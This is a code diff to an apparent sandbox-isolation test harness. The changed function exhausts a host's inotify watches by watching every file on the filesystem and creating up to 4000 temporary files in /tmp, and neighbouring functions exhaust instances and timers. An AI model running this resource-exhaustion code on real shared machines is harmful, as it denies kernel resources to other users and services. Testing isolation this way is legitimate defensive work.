@@ -5,6 +5,7 @@ in the victim and on the host.
 """
 
 import ctypes
+import itertools
 import os
 
 from .attacker import Target, attack, call
@@ -34,16 +35,29 @@ def use_up_inotify_instances(target: Target):
 
 @attack(gain="all inotify watches", seen="No space left on device")
 def use_up_inotify_watches(target: Target):
-    paths = (os.path.join(folder, name) for folder, _, names in os.walk("/") for name in names)
+    there = (os.path.join(folder, name) for folder, _, names in os.walk("/") for name in names)
     here = _held[0] if _held else _Open(call(_INOTIFY_INIT1, 0))
-    for path in paths:
-        try:
-            call(_INOTIFY_ADD_WATCH, here.fd, os.fsencode(path), 0x2)
-        except (FileNotFoundError, PermissionError):
-            continue
-        except OSError as error:
-            return os.strerror(error.errno)
-    return "no end"
+    own: list[str] = []
+    try:
+        for path in itertools.chain(there, _made(own)):
+            try:
+                call(_INOTIFY_ADD_WATCH, here.fd, os.fsencode(path), 0x2)
+            except (FileNotFoundError, PermissionError):
+                continue
+            except OSError as error:
+                return os.strerror(error.errno)
+        return "no end"
+    finally:
+        for path in own:
+            os.unlink(path)
+
+
+def _made(own: list[str]):
+    """Files of its own, where the others are too few: each has to be there to be watched."""
+    for number in range(4000):
+        own.append(f"/tmp/watched{number}")
+        os.close(os.open(own[-1], os.O_CREAT | os.O_WRONLY, 0o600))
+        yield own[-1]
 
 
 @attack(gain="all timers and queued signals", seen=[1024, "Resource temporarily unavailable"])
